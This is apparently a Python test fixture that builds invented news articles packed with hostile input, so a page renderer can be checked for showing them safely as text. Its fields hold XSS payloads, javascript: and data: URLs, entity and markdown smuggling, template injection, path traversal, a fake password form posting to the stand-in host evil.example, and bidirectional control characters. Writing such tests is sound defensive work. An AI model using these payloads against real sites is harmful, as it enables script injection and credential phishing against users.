"""Invented articles that attack through every field, each with a question that it answers."""

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime

from index.article import Article

ELSEWHERE = "evil.example"
"""The host that attacks try to contact."""
NAMED = "planted"
"""The id and class that attacks try to plant."""
LONG_TITLE = 10_000
LONG_WORD = 1_000_000
_PUBLISHED = datetime(2022, 11, 10, tzinfo=UTC)


@dataclass(frozen=True, slots=True)
class Hostile:
    """A hostile article; `question` finds it, and the page must show `shown` of its answer as text."""

    question: str
    shown: str
    article: Article


def hostile() -> list[Hostile]:
    """Return all hostile articles."""
    return [
        *(_made(thing, address, attack) for thing, address, attack in _attacks()),
        _turned(),
        _long(),
    ]


def _attacks() -> Iterator[tuple[str, str, str]]:
    """Yield the subject, the URL, and the text of every other field."""
    yield (
        "windmill of Ashcombe",
        "javascript:alert('address')",
        f"<script>alert('script')</script><img src=http://{ELSEWHERE}/i.png onerror=alert('image')>"
        f"<svg onload=alert('svg')><iframe src='//{ELSEWHERE}'></iframe>",
    )
    yield (
        "bakery of Birchley",
        "data:text/html,<script>alert('data')</script>",
        f"&lt;script&gt;alert('entity')&lt;/script&gt; &#60;img src=http://{ELSEWHERE}/e.png onerror=alert('n')&#62;"
        " &#x3c;b&#x3e;bold&#x3c;/b&#x3e; &amp;lt;i&amp;gt;",
    )
    yield (
        "footbridge of Coldwater",
        f"http://{ELSEWHERE}/\" onmouseover=\"alert('attribute')",
        f"[press](javascript:alert('link')) ![x](http://{ELSEWHERE}/m.png) <http://{ELSEWHERE}/auto> "
        f"http://{ELSEWHERE}/bare [ref]: http://{ELSEWHERE}/ref ```code``` | a | b | # heading ~~gone~~",
    )
    yield (
        "library of Dunsford",
        "javascript://news.example/%0aalert('comment')",
        "$$\\href{javascript:alert('formula')}{x}$$ "
        f"\\(\\includegraphics{{http://{ELSEWHERE}/f.png}}\\) $x^2$ {{{{7*7}}}}",
    )
    yield (
        "tram line of Elmstead",
        "vbscript:alert('script')",
        f"[1](#cite-1-1/1/0/5/{NAMED}/p1) <a class=cw-cite href='#cite-1-2/1/0/5/{NAMED}/p1'>[2]</a> "
        f"<button class=cw-lift id=cw-lift-1>{NAMED}</button> <a href='/logout'>{NAMED}</a>",
    )
    yield (
        "museum of Fernhill",
        f"https://{NAMED}@{ELSEWHERE}:99999/",
        f"</p></blockquote></li></ol></div><div id={NAMED} class=cw-panel style='position:fixed;inset:0;z-index:99'>"
        f"<form action=http://{ELSEWHERE}><input name=password><button>{NAMED}</button></form>"
        f"<base href=//{ELSEWHERE}>",
    )


def _made(thing: str, address: str, attack: str) -> Hostile:
    cost = 100 + len(thing) * 7  # each its own: articles that say the same are one report
    return Hostile(
        f"What did the {thing} cost?",
        attack,
        Article.make(
            id=f"{thing}/../{attack}?x=1&y='2'#frag",
            fallback_id=thing,
            title=f"The {thing} opens {attack}",
            source=f"Gazette of the {thing} {attack}",
            authors=[f"Ana Reyes {attack}", attack],
            url=address,
            published=_PUBLISHED,
            language="en",
            text=f"The {thing} cost {cost} crowns.\n\n{attack}",
        ),
    )


def _turned() -> Hostile:
    """An article with bidirectional controls, invisible characters and control codes."""
    turn = "\u202e\u2067\u2066\u202dlatot\u200b\u200d\ufeff\u200f\x00\x07\x1b[31m"
    return Hostile(
        "What did the lighthouse of Gorseby cost?",
        "The lighthouse of Gorseby cost 290 crowns",
        Article.make(
            id=f"gorseby{turn}",
            fallback_id="gorseby",
            title=f"Lighthouse of Gorseby {turn} opens",
            source=f"Gorseby {turn} Gazette",
            authors=[f"Ana {turn} Reyes"],
            url=f"https://news.example/{turn}",
            published=_PUBLISHED,
            language="en",
            text=f"The lighthouse of Gorseby cost 290 crowns {turn} in all. {turn} The keeper paid for it himself.",
        ),
    )


def _long() -> Hostile:
    """An article with words too long for any line."""
    return Hostile(
        "What did the lighthouse of Heathwick cost?",
        "The lighthouse of Heathwick cost 270 crowns",
        Article.make(
            id="heathwick" * 100,
            fallback_id="heathwick",
            title="Lighthouse of Heathwick " + "t" * LONG_TITLE,
            source="Heathwick" + "s" * LONG_TITLE,
            authors=["a" * LONG_TITLE],
            url="https://news.example/" + "u" * 2_000,
            published=_PUBLISHED,
            language="en",
            text=f"The lighthouse of Heathwick cost 270 crowns. {'w' * LONG_WORD} was its motto.",
        ),
    )
